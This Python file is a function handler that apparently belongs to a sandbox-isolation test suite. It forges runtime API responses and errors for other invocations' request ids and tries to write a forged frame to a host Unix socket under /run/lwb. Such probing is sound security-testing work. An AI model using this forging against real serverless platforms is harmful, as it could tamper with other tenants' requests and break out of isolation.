# Forges Runtime API traffic: posts responses and errors for request ids that are
# not the current invocation's (another env's running request, this env's
# previous one, a made-up one), and tries the host channel socket directly.
import http.client
import json
import os
import socket

from escape_lib import attempt

LAST = '/tmp/last-request-id'


def post(path, body):
    c = http.client.HTTPConnection('127.0.0.1', 9001, timeout=5)
    c.request('POST', path, body=json.dumps(body), headers={'Content-Type': 'application/json'})
    r = c.getresponse()
    out = {'status': r.status, 'body': r.read().decode('utf-8', 'replace')[:200]}
    c.close()
    return out


def handler(event, context):
    what = event['what']
    if what == 'post':
        ids = list(event.get('ids', []))
        if os.path.exists(LAST):
            ids.append(open(LAST).read())
        with open(LAST, 'w') as f:
            f.write(context.aws_request_id)
        api = '/2018-06-01/runtime/invocation/'
        out = {}
        for i in ids:
            out[i] = {
                'response': post(api + i + '/response', {'forged': True}),
                'error': post(api + i + '/error', {'errorMessage': 'forged', 'errorType': 'Forged'}),
            }
        return {'me': context.aws_request_id, 'posts': out}
    if what == 'channel':
        def connect():
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                s.connect('/run/lwb/host.sock')
                s.sendall(b'\0\0\0\x10forged-frame....')
                return 'connected and wrote'
            finally:
                s.close()
        return {
            'listing': attempt(lambda: os.listdir('/run/lwb')),
            'connect': attempt(connect),
            'open': attempt(lambda: open('/run/lwb/host.sock', 'wb').close()),
        }
    raise ValueError(what)
